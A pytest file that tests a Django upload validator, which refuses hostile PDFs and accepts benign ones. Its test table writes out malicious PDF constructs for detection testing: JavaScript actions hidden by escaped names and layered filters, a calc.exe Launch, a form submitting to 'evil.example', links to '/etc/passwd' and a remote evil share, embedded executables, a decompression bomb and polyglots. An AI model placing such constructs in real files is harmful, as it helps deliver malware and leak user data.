"""PDFs that do more than be read are refused, however it is written; those of ordinary programs are taken."""

import io

import pytest
from django.core.files.base import ContentFile
from pypdf import PdfWriter

from core.uploads import pdf as pdf_check
from core.uploads.documents import checked_document
from core.uploads.refusals import UploadRefused
from tests.core.made import packages, pdfs
from tests.core.made.pdfs import OPEN, SCRIPT, packed_pdf, pdf, stream

ZIP = packages.zipped({"a.txt": "a"})


def opening(action: str) -> bytes:
    return pdf(action, catalog=OPEN)


def protected() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("", "owner", algorithm="RC4-128")
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


HOSTILE = {
    "a script runs when it opens": (lambda: opening(SCRIPT), "pdf_script"),
    "a script runs when a page opens": (lambda: pdf(SCRIPT, page="/AA << /O 4 0 R >>"), "pdf_script"),
    "a script is kept under a name": (
        lambda: pdf(catalog=f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"),
        "pdf_script",
    ),
    "the name of a script is written in escapes": (
        lambda: opening("<< /S /J#61va#53cript /#4a#53 (app.alert\\(1\\)) >>"),
        "pdf_script",
    ),
    "every letter of the name is an escape": (
        lambda: opening("<< /S /" + "".join(f"#{ord(letter):02X}" for letter in "JavaScript") + " /JS 5 0 R >>"),
        "pdf_script",
    ),
    "a script follows an action that is harmless": (
        lambda: opening(f"<< /S /GoTo /D [3 0 R /Fit] /Next {SCRIPT} >>"),
        "pdf_script",
    ),
    "a script is in a packed object": (lambda: packed_pdf(SCRIPT, catalog=OPEN), "pdf_script"),
    "a script is packed as hexadecimal digits": (
        lambda: packed_pdf(SCRIPT, catalog=OPEN, encode=pdfs.in_hex, filters="/ASCIIHexDecode"),
        "pdf_script",
    ),
    "a script is packed twice": (
        lambda: packed_pdf(
            SCRIPT, catalog=OPEN, encode=pdfs.in_ascii85_over_flate, filters="[/ASCII85Decode /FlateDecode]"
        ),
        "pdf_script",
    ),
    "a script is packed in runs of one": (
        lambda: packed_pdf(SCRIPT, catalog=OPEN, encode=pdfs.in_runs, filters="/RunLengthDecode"),
        "pdf_script",
    ),
    "a script is packed with LZW": (
        lambda: packed_pdf(SCRIPT, catalog=OPEN, encode=pdfs.in_lzw, filters="/LZWDecode"),
        "pdf_script",
    ),
    "a script is packed, with its name in escapes": (
        lambda: packed_pdf("<< /S /#4aavaScript /#4aS (x) >>", catalog=OPEN),
        "pdf_script",
    ),
    "a packed script waits for a reader to mend the table": (
        lambda: packed_pdf(SCRIPT, catalog=OPEN, lost=True),
        "pdf_script",
    ),
    "the table leads into the middle of a picture": (pdfs.hidden_in_a_stream, "pdf_script"),
    "a script is in an earlier version": (pdfs.earlier_version_with_script, "pdf_script"),
    "a program starts when it opens": (lambda: opening("<< /S /Launch /F (calc.exe) >>"), "pdf_launch"),
    "a program starts on a click": (
        lambda: pdf("<< /Type /Annot /Subtype /Link /A << /S /Launch /F (x) >> >>", page="/Annots [4 0 R]"),
        "pdf_launch",
    ),
    "another file opens": (lambda: opening("<< /S /GoToR /F (//evil/share/x.pdf) /D [0 /Fit] >>"), "pdf_launch"),
    "a file inside opens": (lambda: opening("<< /S /GoToE /T << >> >>"), "pdf_launch"),
    "data comes in from elsewhere": (lambda: opening("<< /S /ImportData /F (x.fdf) >>"), "pdf_launch"),
    "a link runs a script": (
        lambda: pdf("<< /S /URI /URI (javascript:alert\\(1\\)) >>", catalog="/X 4 0 R"),
        "pdf_launch",
    ),
    "a link leads to a file": (
        lambda: pdf("<< /S /URI /URI (file:///etc/passwd) >>", catalog="/X 4 0 R"),
        "pdf_launch",
    ),
    "a link leads to another computer's files": (
        lambda: pdf("<< /S /URI /URI (\\\\\\\\evil\\\\share) >>", catalog="/X 4 0 R"),
        "pdf_launch",
    ),
    "a form sends what is typed": (lambda: opening("<< /S /SubmitForm /F (https://evil.example) >>"), "pdf_sends"),
    "a form is made with XFA": (
        lambda: pdf(stream(b"<xdp/>"), catalog="/AcroForm << /Fields [] /XFA 4 0 R >>"),
        "pdf_form",
    ),
    "a file is attached": (
        lambda: pdf(stream(b"MZ", "/Type /EmbeddedFile"), catalog="/Names << /EmbeddedFiles << /Names [] >> >>"),
        "pdf_attachment",
    ),
    "a file is attached to a page, and packed": (
        lambda: packed_pdf("<< /Type /Filespec /F (x.exe) /EF << /F 9 0 R >> >>", catalog="/X 4 0 R"),
        "pdf_attachment",
    ),
    "a film plays": (
        lambda: pdf("<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>", page="/Annots [4 0 R]"),
        "pdf_media",
    ),
    "a sound plays": (lambda: opening("<< /S /Sound /Sound 5 0 R >>"), "pdf_media"),
    "a rendition plays": (lambda: opening("<< /S /Rendition /OP 0 >>"), "pdf_media"),
    "it holds a 3D scene": (lambda: pdf("<< /Type /Annot /Subtype /3D >>", page="/Annots [4 0 R]"), "pdf_media"),
    "it is protected": (protected, "pdf_encrypted"),
    "it unpacks to 700 MB": (pdfs.bomb, "bomb"),
    "it is nested a thousand times too deep": (lambda: pdfs.nested(50_000), "pdf_unreadable"),
    "it has no pages": (pdfs.pdf_of_no_pages, "pdf_unreadable"),
    "it has a head and a tail and nothing else": (lambda: b"%PDF-1.7\n%%EOF\n", "pdf_unreadable"),
    "it is of a version there is not": (lambda: pdf(version="9.9"), "pdf_unreadable"),
    "its second half is missing": (lambda: pdf()[:300], "damaged"),
    "something stands before it": (lambda: b"<html>" + pdf(), "content"),
    "an archive stands behind it": (lambda: pdf() + ZIP, "two_in_one"),
    "an archive stands behind it and ends like a PDF": (
        lambda: pdf() + ZIP[:-2] + len(b"\n%%EOF").to_bytes(2, "little") + b"\n%%EOF",
        "two_in_one",
    ),
    "a program stands behind it": (lambda: pdf() + packages.EXE, "two_in_one"),
    "it is a web page": (lambda: b"<!doctype html><script>alert(1)</script>", "content"),
    "it is a Word document": (packages.docx, "content"),
    "it is a program": (lambda: packages.EXE, "content"),
    "it is empty": (lambda: b"", "empty"),
    "it is larger than 20 MB": (lambda: pdf(stream(bytes(21 * 1024 * 1024))), "too_large"),
}


@pytest.mark.parametrize("made", HOSTILE.values(), ids=HOSTILE)
def test_a_pdf_is_refused_when(made):
    make, code = made
    with pytest.raises(UploadRefused) as refusal:
        checked_document(ContentFile(make(), "회의록.pdf"))
    assert refusal.value.code == code
    assert "회의록.pdf" in refusal.value.messages[0]


def written_by_pypdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Title": "서울형 생활임금"})
    writer.add_outline_item("첫째 장", 0)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


GOOD = {
    "with a plain table of objects": pdf,
    "with packed objects": packed_pdf,
    "with objects packed in an old way": lambda: packed_pdf(encode=pdfs.in_lzw, filters="/LZWDecode"),
    "of version 2.0": lambda: pdf(version="2.0"),
    "that opens at a page": lambda: pdf(catalog="/OpenAction [3 0 R /Fit]"),
    "that opens at a page by an action": lambda: opening("<< /S /GoTo /D [3 0 R /XYZ 0 0 null] >>"),
    "with links to the web": lambda: pdf(
        "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.seoul.go.kr) >> >>", page="/Annots [4 0 R]"
    ),
    "with a form to print": lambda: pdf(catalog="/AcroForm << /Fields [] >>"),
    "with text about JavaScript": lambda: pdf(stream(b"BT (JavaScript, Launch) Tj ET"), page="/Contents 4 0 R"),
    "with line ends behind it": lambda: pdf() + b"\r\n\r\n",
    "written by pypdf, with a title in Hangul": written_by_pypdf,
}


@pytest.mark.parametrize("make", GOOD.values(), ids=GOOD)
def test_a_pdf_is_taken_as_it_is(make):
    content = make()
    kept = checked_document(ContentFile(content, "2019년 포럼 자료집.pdf"))
    assert kept.read() == content
    assert kept.name == "2019년_포럼_자료집.pdf"


def test_a_pdf_that_keeps_its_reader_busy_is_refused_in_time(monkeypatch):
    monkeypatch.setattr(pdf_check, "SECONDS", 0.001)
    with pytest.raises(UploadRefused, match="takes too long"):
        checked_document(ContentFile(pdf(), "a.pdf"))


def test_an_inspector_that_dies_lets_nothing_through(monkeypatch, tmp_path):
    dying = tmp_path / "dying.py"
    dying.write_text("import os; print('safe', flush=True); os.abort()")
    monkeypatch.setattr(pdf_check, "INSPECTOR", dying)
    with pytest.raises(UploadRefused, match="takes too long"):
        checked_document(ContentFile(pdf(), "a.pdf"))


def test_the_inspector_knows_nothing_of_the_site(monkeypatch, tmp_path):
    curious = tmp_path / "curious.py"
    curious.write_text(
        "import os, sys\n"
        "try:\n    import core\n    print('found')\n"
        "except ImportError:\n    print('safe' if set(os.environ) <= {'LC_CTYPE'} else 'told')\n"
    )
    monkeypatch.setattr(pdf_check, "INSPECTOR", curious)
    monkeypatch.setenv("SECRET_KEY", "secret")
    checked_document(ContentFile(pdf(), "a.pdf"))
